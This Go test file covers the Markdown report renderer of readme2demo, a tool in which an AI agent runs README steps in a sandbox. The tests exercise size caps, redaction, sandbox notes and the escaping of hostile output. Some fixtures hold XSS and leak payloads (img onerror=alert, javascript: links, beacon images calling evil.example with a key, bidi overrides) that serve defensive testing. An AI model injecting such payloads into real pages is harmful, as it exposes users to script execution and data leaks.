package report

import (
	"fmt"
	"strings"
	"testing"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	"gotest.tools/v3/golden"

	"github.com/readme2demo/readme2demo/internal/commandlog"
	"github.com/readme2demo/readme2demo/internal/redact"
	"github.com/readme2demo/readme2demo/internal/termtext/termtexttest"
)

func ip(i int) *int                { return &i }
func i64(i int64) *int64           { return &i }
func fp(f float64) *float64        { return &f }
func sp(s string) *string          { return &s }
func src(l int) *commandlog.Source { return &commandlog.Source{File: "README.md", Line: l} }

func baseLog() *commandlog.Log {
	return &commandlog.Log{
		SchemaVersion: 1,
		Engine:        "claude-code",
		AgentVersion:  sp("2.1.332"),
		Outcome:       commandlog.OutcomeSuccess,
		Markers:       []commandlog.Marker{{Kind: commandlog.MarkerSuccess}},
		Commands: []commandlog.Command{
			{ID: "t1", Command: "git clone https://example.com/demo.git && cd demo", ExitCode: ip(0), Status: commandlog.StatusOK, Source: src(12)},
			{ID: "t2", Command: "make build", Output: "go build ./...\n", ExitCode: ip(0), Status: commandlog.StatusOK, Source: src(18)},
			{ID: "t3", Command: "./bin/demo --help | head -n 3", Output: "usage: demo [flags]\n", ExitCode: ip(0), Status: commandlog.StatusOK},
		},
		CostUSD:    fp(0.0512),
		Turns:      ip(9),
		DurationMS: i64(61_500),
		ParseStats: commandlog.ParseStats{Lines: 21},
	}
}

var opts = Options{
	Readme:       "README.md",
	RunURL:       "https://github.com/acme/demo/actions/runs/42",
	ArtifactName: "readme2demo",
	BlobURL:      "https://github.com/acme/demo/blob/0123abc/",
}

func TestRenderGolden(t *testing.T) {
	adjusted := baseLog()
	adjusted.Adjusted = true
	adjusted.Markers = []commandlog.Marker{
		{Kind: commandlog.MarkerFix, Text: "README step 2 must create build/ first: `mkdir -p build`"},
		{Kind: commandlog.MarkerFix, Text: "the demo needs Go 1.22, the README says 1.20"},
		{Kind: commandlog.MarkerAdjustedSuccess},
	}
	adjusted.FileEdits = []commandlog.FileEdit{{Path: "README.md", Tool: "Edit", OK: true}}
	adjustedDiff := "--- a/README.md\n+++ b/README.md\n@@ -17,2 +17,3 @@\n ```sh\n+mkdir -p build\n make build\n"

	failed := baseLog()
	failed.Outcome = commandlog.OutcomeFailed
	failed.Markers = []commandlog.Marker{{Kind: commandlog.MarkerFix, Text: "`make build` needs libfoo-dev, which the README does not mention"}}
	failed.OutcomeReason = "the agent hit its turn limit (max_turns 10)"
	failed.Commands[1] = commandlog.Command{ID: "t2", Command: "make build", Output: "cc -o demo demo.c\ndemo.c:1:10: fatal error: foo.h: No such file or directory\n```\n</details>\n<img src=x onerror=alert(1)>\nmake: *** [Makefile:3: demo] Error 1\n",
		ExitCode: ip(2), Status: commandlog.StatusFailed, Source: src(18)}
	failed.Commands = append(failed.Commands, commandlog.Command{ID: "t4", Command: "curl -fsS http://localhost:8080/health", Status: commandlog.StatusFailed})

	blocked := baseLog()
	blocked.Outcome = commandlog.OutcomeBlocked
	blocked.Markers = []commandlog.Marker{{Kind: commandlog.MarkerBlocked, Text: "the demo needs a STRIPE_API_KEY; I did not invent one"}}
	blocked.Commands = blocked.Commands[:1]

	killed := baseLog()
	killed.Outcome = commandlog.OutcomeFailed
	killed.OutcomeReason = "the agent was killed before it finished (no final result)"
	killed.Markers = nil
	killed.CostUSD, killed.Turns, killed.DurationMS, killed.AgentVersion = nil, nil, nil, nil
	killed.Commands = append(killed.Commands[:2], commandlog.Command{ID: "t3", Command: "npm test", Status: commandlog.StatusUnknown})
	killed.ParseStats = commandlog.ParseStats{Lines: 40, Malformed: 1, UnknownEvents: 2}

	// A keyless run stopped by the strict profile, with the sandbox it had.
	limited := baseLog()
	limited.Engine, limited.AgentVersion, limited.CostUSD, limited.Turns = "markdown", sp("readme2demo-runner/1"), fp(0), nil
	limited.Outcome, limited.Markers = commandlog.OutcomeFailed, nil
	limited.Commands = append(limited.Commands[:1], commandlog.Command{ID: "2", Command: "sudo apt-get install -y jq", ExitCode: ip(1), Status: commandlog.StatusFailed, Source: src(20),
		Output:      "sudo: The \"no new privileges\" flag is set, which prevents sudo from running as root.\n",
		Environment: &commandlog.Environment{Kind: "sandbox-profile", Detail: "the strict profile refuses privilege escalation: run with --sandbox dev (Action input `sandbox: dev`)"}})
	limited.OutcomeReason = "README.md line 20 (\"sudo apt-get install -y jq\") failed because of the sandbox, not the README (sandbox-profile): the strict profile refuses privilege escalation"
	limited.Sandbox = &commandlog.Sandbox{Profile: "strict", Image: "readme2demo-base", Network: "open", Disk: 10 << 30, Memory: 4 << 30, CPU: 2, Pids: 512, DiskPeak: i64(3 << 20)}

	keyless := baseLog()
	keyless.Engine, keyless.AgentVersion, keyless.Turns, keyless.CostUSD = "markdown", sp("readme2demo-runner/1"), nil, fp(0)
	keyless.Outcome, keyless.Markers = commandlog.OutcomeFailed, nil
	keyless.Commands = []commandlog.Command{
		{ID: "1", Command: "make build", Output: "ok\n", ExitCode: ip(0), Status: commandlog.StatusOK, Source: src(18)},
		{ID: "2", Command: "glow README.md", Output: "bash: glow: command not found\n", ExitCode: ip(127), Status: commandlog.StatusFailed, Source: src(40)},
	}
	keyless.OutcomeReason = "README.md line 40: `glow README.md` exited with 127 (glow: command not found); 3 of 5 planned commands were not reached"
	keyless.Skipped = []commandlog.Skipped{
		{File: "README.md", Line: 12, Command: "brew install glow", Reason: "other platform: Homebrew"},
		{File: "README.md", Line: 30, Command: "glow -s [dark|light]", Reason: "usage synopsis ([dark|light]), not a command to run"},
		{File: "README.md", Line: 33, Command: "cat <<EOF | tee x.yml\nkey: `value` | <b>\nEOF", Reason: "file content: the text before the block says to put it in x.yml"},
	}

	// A keyless run whose steps passed and whose probes (commands run on a
	// guess) partly failed: the run succeeds, the failed probes are listed
	// with the hint that makes them steps, the passed ones counted.
	probes := baseLog()
	probes.Engine, probes.AgentVersion, probes.Turns, probes.CostUSD = "markdown", sp("readme2demo-runner/2"), nil, fp(0)
	probes.Outcome, probes.Markers = commandlog.OutcomeSuccess, []commandlog.Marker{{Kind: commandlog.MarkerSuccess}}
	probes.Commands = []commandlog.Command{
		{ID: "1", Command: "make build", Output: "ok\n", ExitCode: ip(0), Status: commandlog.StatusOK, Source: src(18), Planned: commandlog.PlannedStep},
		{ID: "2", Command: "demo --version", Output: "demo 1.2\n", ExitCode: ip(0), Status: commandlog.StatusOK, Source: src(25), Planned: commandlog.PlannedProbe},
		{ID: "3", Command: "demo serve --config <path>", Output: "demo: no such file: <path>\n", ExitCode: ip(2), Status: commandlog.StatusFailed, Source: src(31), Planned: commandlog.PlannedProbe},
		{ID: "4", Command: "kubectl apply -f deploy.yml\nkubectl get pods", Output: "bash: kubectl: command not found\n", ExitCode: ip(127), Status: commandlog.StatusFailed, Source: src(40), Planned: commandlog.PlannedProbe},
	}

	// A keyless run that no step could check: blocked, with no agent's
	// BLOCKED line.
	noStep := baseLog()
	noStep.Engine, noStep.AgentVersion, noStep.Turns, noStep.CostUSD = "markdown", sp("readme2demo-runner/2"), nil, fp(0)
	noStep.Outcome, noStep.Markers = commandlog.OutcomeBlocked, nil
	noStep.Commands = []commandlog.Command{
		{ID: "1", Command: "docker compose up -d", Output: "bash: docker: command not found\n", ExitCode: ip(127), Status: commandlog.StatusFailed, Source: src(12), Planned: commandlog.PlannedProbe,
			Environment: &commandlog.Environment{Kind: "no-docker", Detail: "the sandbox has no Docker"}},
	}
	noStep.OutcomeReason = "no step of the README could be checked in the sandbox: README.md line 12 (\"docker compose up -d\") failed because of the sandbox, not the README (no-docker): the sandbox has no Docker"

	nothing := baseLog()
	nothing.Engine, nothing.AgentVersion, nothing.Turns, nothing.CostUSD = "markdown", sp("readme2demo-runner/1"), nil, fp(0)
	nothing.Outcome, nothing.Markers, nothing.Commands = commandlog.OutcomeFailed, nil, nil
	nothing.OutcomeReason = "nothing to run: none of the 2 code blocks of README.md has a command to run on Linux (line 4: go code, not shell; line 9: other platform: Homebrew)"
	nothing.OutcomeCause = commandlog.CauseNothingToRun
	nothing.Skipped = []commandlog.Skipped{{File: "README.md", Line: 9, Command: "brew install lib", Reason: "other platform: Homebrew"}}

	// An engine whose key the egress proxy could not hold: the report warns.
	keyInside := baseLog()
	keyInside.Engine = "openhands"
	keyInside.Sandbox = &commandlog.Sandbox{Profile: "dev", Image: "readme2demo-base", Network: "allowlist", Disk: 10 << 30, Memory: 4 << 30, CPU: 2, Pids: 1024,
		KeysInContainer: []string{"LLM_API_KEY"}, KeysWhy: "OpenHands has not been run with a placeholder key through the key-holding proxy"}

	tests := []struct {
		name string
		log  *commandlog.Log
		opts Options
	}{
		{"sandbox-limit", limited, opts},
		{"key-in-container", keyInside, opts},
		{"success", baseLog(), opts},
		{"keyless-skipped", keyless, opts},
		{"keyless-probes", probes, opts},
		{"keyless-blocked", noStep, opts},
		{"nothing-to-run", nothing, Options{Readme: "README.md"}},
		{"adjusted", adjusted, withDiff(opts, adjustedDiff)},
		{"failed", failed, opts},
		{"blocked", blocked, opts},
		{"killed", killed, Options{}},
		{"5000-commands-comment", bigLog(5000), withMax(opts, CommentMaxBytes)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Render(tc.log, tc.opts)
			golden.Assert(t, got, tc.name+".md")
			max := tc.opts.MaxBytes
			if max == 0 {
				max = SummaryMaxBytes
			}
			assert.Assert(t, len(got) <= max, "size %d > cap %d", len(got), max)
			assertBalanced(t, got)
		})
	}
}

func withDiff(o Options, d string) Options { o.ReadmeDiff = d; return o }
func withMax(o Options, n int) Options     { o.MaxBytes = n; return o }

func bigLog(n int) *commandlog.Log {
	l := baseLog()
	l.Outcome = commandlog.OutcomeFailed
	l.Markers = nil
	l.Commands = nil
	for i := range n {
		c := commandlog.Command{ID: fmt.Sprintf("t%d", i), Command: fmt.Sprintf("step %d: ./run.sh --case %d", i, i), ExitCode: ip(0), Status: commandlog.StatusOK}
		if i%10 == 9 {
			c.ExitCode, c.Status = ip(1), commandlog.StatusFailed
			c.Output = strings.Repeat(fmt.Sprintf("case %d: assertion failed\n", i), 150) // ~4 KiB
		}
		l.Commands = append(l.Commands, c)
	}
	return l
}

func TestRenderSizeCapHolds(t *testing.T) {
	for _, n := range []int{5000, 20000} {
		l := bigLog(n) // Render only reads it
		for _, max := range []int{0, CommentMaxBytes, 4096} {
			got := Render(l, Options{MaxBytes: max})
			limit := max
			if limit == 0 {
				limit = SummaryMaxBytes
			}
			assert.Assert(t, len(got) <= limit, "n=%d: size %d > cap %d", n, len(got), limit)
			assert.Assert(t, len(got) > limit/2, "n=%d cap=%d: only %d bytes used", n, limit, len(got))
			// not is.Contains, which quotes the whole report before it looks
			assert.Check(t, strings.Contains(got, "This report was shortened to fit GitHub's size limit"), "n=%d cap=%d: no note", n, limit)
			assert.Check(t, strings.Contains(got, fmt.Sprintf("of %d commands", n)), "n=%d cap=%d: no count", n, limit)
			assertBalanced(t, got)
		}
	}
}

func TestRenderUnknownIsNeverZero(t *testing.T) {
	l := baseLog()
	l.CostUSD, l.Turns, l.DurationMS = nil, nil, nil
	got := Render(l, Options{})
	assert.Check(t, !strings.Contains(got, "$0.00"))
	assert.Check(t, is.Contains(got, "| unknown | unknown | unknown |"))

	l.CostUSD = fp(0) // a real zero (the keyless engine) is shown as zero
	assert.Check(t, is.Contains(Render(l, Options{}), "$0.0000"))
}

// Every hidden, bidi, tag, separator and conceal character, C1 control,
// OSC/DCS sequence and huge CSI parameter in a log's commands, outputs,
// markers, reasons and paths is shown visibly in the report (the job
// summary and the PR comment are this render), never passed on: the golden
// shows each one, the oracle finds none raw, and GitHub's renderer gets
// nothing that would reach the page as a control or hidden character.
func TestRenderHostileText(t *testing.T) {
	l := termtexttest.Log()
	for _, o := range []Options{opts, {MaxBytes: CommentMaxBytes, Title: "readme2demo (claude-code)"}} {
		got := Render(l, o)
		assert.Check(t, is.Len(termtexttest.Problems(got, termtexttest.Markdown), 0), "%s", strings.Join(termtexttest.Problems(got, termtexttest.Markdown), "\n"))
		assert.Check(t, is.Len(termtexttest.Problems(renderHTML(t, got), termtexttest.HTML), 0))
		assertBalanced(t, got)
		if o.BlobURL != "" {
			golden.Assert(t, got, "hostile-text.md")
		}
	}
}

// Hostile text from the agent or the commands must not escape its box.
func TestRenderEscapesUntrustedText(t *testing.T) {
	l := baseLog()
	l.Outcome = commandlog.OutcomeFailed
	l.Markers = []commandlog.Marker{
		{Kind: commandlog.MarkerFix, Text: "see ![x](https://evil.example/leak?k=1) and <img src=https://evil.example/a.png> cc @octocat [click](javascript:alert(1)) <!-- hidden -->"},
	}
	l.Commands = []commandlog.Command{{
		ID: "t1", Command: "echo '| a | b |' && echo ``` && echo <script>",
		Output:   "```\n</details>\n# heading\n![img](https://evil.example/x.png)\n\u202Egnp.exe\n",
		ExitCode: ip(1), Status: commandlog.StatusFailed,
	}}
	l.FileEdits = []commandlog.FileEdit{{Path: "README.md", Tool: "Edit", OK: true}}
	got := Render(l, Options{ReadmeDiff: "+ ![beacon](https://evil.example/b.png)\n+ ```\n"})
	html := renderHTML(t, got)

	assert.Check(t, !strings.Contains(html, "<img"), "an image survived:\n%s", html)
	assert.Check(t, !strings.Contains(html, "<script"), "a script tag survived")
	assert.Check(t, !strings.Contains(html, `href="javascript`), "a javascript link survived")
	assert.Check(t, !strings.Contains(html, `href="https://evil`), "an attacker link survived")
	assert.Check(t, !strings.Contains(got, "@octocat"), "a mention survived")
	assert.Check(t, !strings.Contains(got, "\u202E"), "a bidi override survived")
	assert.Check(t, !strings.Contains(html, "<h1>heading"), "output became a heading")
	// The table still has exactly its 4 cells in the command row.
	assert.Check(t, is.Contains(html, "<td style=\"text-align:right\">1</td>\n<td><code>echo '| a | b |'"))
	assertBalanced(t, got)
}

func TestRenderNoCommands(t *testing.T) {
	l := baseLog()
	l.Commands = nil
	assert.Check(t, is.Contains(Render(l, Options{}), "The agent ran no commands"))
}

// assertBalanced checks that code fences are closed and that <details>
// tags outside code blocks pair up.
func assertBalanced(t *testing.T, md string) {
	t.Helper()
	var open string
	opened, closed := 0, 0
	for _, line := range strings.Split(md, "\n") {
		trim := strings.TrimRight(line, " ")
		if open == "" {
			if strings.HasPrefix(trim, "```") {
				open = trim[:strings.IndexFunc(trim+"x", func(r rune) bool { return r != '`' })]
				continue
			}
			opened += strings.Count(line, "<details>")
			closed += strings.Count(line, "</details>")
			continue
		}
		if strings.Trim(trim, "`") == "" && len(trim) >= len(open) {
			open = ""
		}
	}
	assert.Check(t, open == "", "a code fence %q is never closed", open)
	assert.Check(t, opened == closed, "%d <details> but %d </details>", opened, closed)
}

func renderHTML(t *testing.T, md string) string {
	t.Helper()
	var b strings.Builder
	// GitHub's renderer strips raw HTML it does not allow; goldmark's
	// default (no WithUnsafe) drops all raw HTML, so anything that still
	// becomes a tag here was produced by markdown syntax.
	assert.NilError(t, goldmark.New(goldmark.WithExtensions(extension.GFM)).Convert([]byte(md), &b))
	return b.String()
}

// The report lists the flagged instruction files and what was left out of
// the sandbox, as SECURITY.md promises; git's routine files stay in the log.
func TestReportListsRepositoryFindings(t *testing.T) {
	l := &commandlog.Log{SchemaVersion: 1, Engine: "claude-code", Outcome: commandlog.OutcomeSuccess,
		RepoFindings: []commandlog.RepoFinding{
			{Path: "CLAUDE.md", Action: "flag", Reason: "r"},
			{Path: "docs/AGENTS.md", Action: "flag", Reason: "r"},
			{Path: ".claude/settings.json", Action: "remove", Reason: "r"},
			{Path: "notes.md", Action: "skip", Reason: "a hard link"},
			{Path: ".git/config", Action: "scrub", Reason: "r"},
			{Path: ".git/hooks/pre-commit", Action: "remove", Reason: "r"},
		}}
	out := Render(l, Options{Readme: "README.md"})
	for _, want := range []string{"Agent instruction files in the repository", "` CLAUDE.md `", "` docs/AGENTS.md `",
		"Left out of the sandbox", "` .claude/settings.json `", "` notes.md `"} {
		assert.Check(t, strings.Contains(out, want), "missing %q in:\n%s", want, out)
	}
	assert.Check(t, !strings.Contains(out, ".git/"), out)
	assert.Check(t, !strings.Contains(Render(&commandlog.Log{SchemaVersion: 1, Engine: "x", Outcome: commandlog.OutcomeSuccess}, Options{}), "instruction files"))
}

// A README command keeps its text in the report (only forwarded values are
// redacted from it); a command the agent made up gets the shape rules.
func TestReportKeepsReadmeCommandsVerbatim(t *testing.T) {
	zero := 0
	readmeCmd := "export API_TOKEN=docs-example-" + "Zk9xQ2mP7rLw"
	agentCmd := "export API_TOKEN=agent-secret-" + "Zk9xQ2mP7rLw"
	l := &commandlog.Log{SchemaVersion: 1, Engine: "markdown", Outcome: commandlog.OutcomeFailed, Commands: []commandlog.Command{
		{ID: "1", Command: readmeCmd, ExitCode: &zero, Status: commandlog.StatusOK, Source: &commandlog.Source{File: "README.md", Line: 3}},
		{ID: "2", Command: agentCmd, ExitCode: &zero, Status: commandlog.StatusOK},
	}}
	r := redact.New([]string{"forwarded-Secret-9value"})
	out := Render(l, Options{Redact: r.String, RedactValues: r.Values})
	assert.Check(t, strings.Contains(out, readmeCmd), out)
	assert.Check(t, !strings.Contains(out, agentCmd), out)
}

// The sandbox line says the disk and file caps are measured, not enforced
// by the host, with the peaks measured, or that the files were not
// measured.
func TestSandboxLineSaysTheCapsAreMeasured(t *testing.T) {
	peak, files := int64(3<<20), int64(1234)
	for _, tc := range []struct {
		sb   commandlog.Sandbox
		want string
	}{
		{commandlog.Sandbox{Profile: "dev", Disk: 1 << 30, Inodes: 131072, Network: "none"},
			"dev profile · disk cap 1GiB (measured, not enforced) · file cap 131072 (not measured on this host) · network none"},
		{commandlog.Sandbox{Profile: "strict", Disk: 1 << 30, DiskPeak: &peak, Inodes: 131072, InodesPeak: &files, Stopped: "inodes"},
			"strict profile · disk cap 1GiB (measured, not enforced; peak 3MiB) · file cap 131072 (measured, not enforced; peak 1234) · stopped by the inodes limit"},
	} {
		assert.Check(t, is.Equal(SandboxLine(&tc.sb), tc.want))
	}
}
